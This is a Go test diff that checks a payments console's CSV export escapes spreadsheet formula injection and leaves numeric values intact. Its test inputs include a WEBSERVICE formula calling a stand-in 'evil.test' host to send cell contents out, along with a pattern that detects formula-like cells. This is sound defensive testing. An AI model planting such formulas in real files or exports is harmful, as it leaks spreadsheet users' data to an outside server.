@@ -352,3 +352,41 @@ func TestFilesOfMoneySayWhatMoved(t *testing.T) {
 		}
 	}
 }
+
+// computed is a cell that a spreadsheet may take for a formula.
+var computed = regexp.MustCompile(`^[ \x{a0}"]*[=+@-]`)
+
+// No cell of a file is computed, whether a spreadsheet separates by commas, semicolons or tabs; numbers are as they were.
+//
+// Covers operator §Console: In a CSV each value
+func TestNoTextOfAFileIsComputed(t *testing.T) {
+	t.Parallel()
+	d := open(t)
+	d.operator("ann", admin.RoleViewer)
+	d.bulk(1)
+	p := d.person()
+	p.login("ann", password)
+	for value, want := range map[string]string{
+		`x;=WEBSERVICE("http://evil.test/"&A1);y`: `x;'=WEBSERVICE("http://evil.test/"&A1);y`,
+		"x; \u00a0+1;@a;-1+1":                     "x;' \u00a0+1;'@a;'-1+1",
+		"x\t=1\r=2\n-3+4":                         "x\t'=1\r'=2\n'-3+4",
+		"x;\t=1":                                  "x;\t'=1",
+		`x;"=1+1"`:                                `x;'"=1+1"`,
+		"=1;=2":                                   "'=1;'=2",
+		"-12.5":                                   "-12.5",
+		"a=b; c-d;e+f@g":                          "a=b; c-d;e+f@g",
+	} {
+		d.exec("update payins set customer_info = ?", value)
+		_, body := p.get("/console/payins?format=csv")
+		lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		must(t, err)
+		if got := lines[1][slices.Index(lines[0], "customer_info")]; got != want {
+			t.Errorf("%q is written as %q", value, got)
+		}
+		for cell := range strings.FieldsFuncSeq(body, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
+			if computed.MatchString(cell) {
+				t.Errorf("%q has the cell %q", value, cell)
+			}
+		}
+	}
+}
